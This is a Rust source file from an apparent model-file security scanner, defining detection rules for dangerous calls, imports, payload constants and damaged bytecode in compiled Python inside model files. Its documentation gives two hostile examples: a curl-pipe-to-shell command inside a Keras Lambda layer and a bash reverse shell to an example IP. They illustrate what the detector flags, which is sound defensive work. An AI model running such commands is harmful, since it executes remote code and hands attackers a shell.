//! Rules about compiled Python code.

use bartizan_core::{Severity, atlas, cwe, owasp_llm, owasp_ml, rule};

rule! {
    /// ## What it finds
    /// A call in compiled Python code that reaches processes, code execution, files, the network or native libraries.
    ///
    /// ## Why it matters
    /// A model file that carries bytecode (a Keras `Lambda` layer, a pickled function, a `.pyc`) runs it when the model
    /// is loaded or called. Bytecode hides from a reader of the source, so it is disassembled here: names and constants
    /// are followed into the calls they meet in.
    ///
    /// ## Example
    /// `__import__('os').system('curl https://example.org/x | sh')` inside a `Lambda` layer.
    ///
    /// ## How to fix
    /// Do not load the file. Ask its maker for weights without code, or for the layer as a registered class in source.
    ///
    /// ## References
    /// - CVE-2024-3660, CVE-2025-1550, CVE-2025-9906: code execution through Keras models
    /// - <https://docs.python.org/3/library/marshal.html>
    pub const BYTECODE_DANGEROUS_CALL: Rule = Rule {
        id: "model/bytecode-dangerous-call",
        title: "compiled Python code that calls something dangerous",
        severity: Severity::Critical,
        remedy: "Do not load the file; ask for weights without code, or review the function in source.",
        taxonomies: &[atlas("AML.T0011.000"), atlas("AML.T0018.002"), cwe(502), owasp_llm("LLM03"), owasp_ml("ML06")],
    };
    /// ## What it finds
    /// An import, in compiled Python code inside a model, of a module whose business is processes, sockets, native code
    /// or further code.
    ///
    /// ## Why it matters
    /// Arithmetic on tensors needs none of them. The calls may be out of sight: made on values the code computes.
    ///
    /// ## Example
    /// `import subprocess` in the body of a `Lambda` layer.
    ///
    /// ## How to fix
    /// Review the function in source; load the model only if the import has a reason.
    ///
    /// ## References
    /// - <https://docs.python.org/3/library/marshal.html>
    pub const BYTECODE_IMPORT: Rule = Rule {
        id: "model/bytecode-import",
        title: "compiled Python code that imports a module with dangerous functions",
        severity: Severity::Medium,
        remedy: "Review the function in source before loading the model.",
        taxonomies: &[atlas("AML.T0011.000"), cwe(829), owasp_llm("LLM03"), owasp_ml("ML06")],
    };
    /// ## What it finds
    /// A constant in compiled Python code that looks like a shell command, a reverse shell, source code or an encoded
    /// payload.
    ///
    /// ## Why it matters
    /// What is not called by name is often passed as text: to a shell, to `exec`, or to a decoder.
    ///
    /// ## Example
    /// The constant `bash -i >& /dev/tcp/203.0.113.5/4444 0>&1`.
    ///
    /// ## How to fix
    /// Find out what the text is for before loading the model.
    ///
    /// ## References
    /// - <https://attack.mitre.org/techniques/T1059/>
    pub const BYTECODE_PAYLOAD: Rule = Rule {
        id: "model/bytecode-payload",
        title: "a shell command, code or encoded payload among the constants of compiled Python code",
        severity: Severity::Medium,
        remedy: "Find out what the constant is for before loading the model.",
        taxonomies: &[atlas("AML.T0011.000"), cwe(506), owasp_llm("LLM03"), owasp_ml("ML06")],
    };
    /// ## What it finds
    /// A marshalled code object that ends early or whose bytecode no version of CPython could run.
    ///
    /// ## Why it matters
    /// What cannot be disassembled cannot be cleared. Damaged bytecode is also a way to crash an interpreter, which does
    /// not check it.
    ///
    /// ## Example
    /// A code object cut in the middle of its constants.
    ///
    /// ## How to fix
    /// Get an intact copy of the file.
    ///
    /// ## References
    /// - <https://docs.python.org/3/library/marshal.html>
    pub const BYTECODE_UNREADABLE: Rule = Rule {
        id: "model/bytecode-unreadable",
        title: "compiled Python code that cannot be read to its end",
        severity: Severity::Medium,
        remedy: "Get an intact copy of the file, or the function in source.",
        taxonomies: &[atlas("AML.T0011.000"), cwe(754), owasp_ml("ML06")],
    };
}
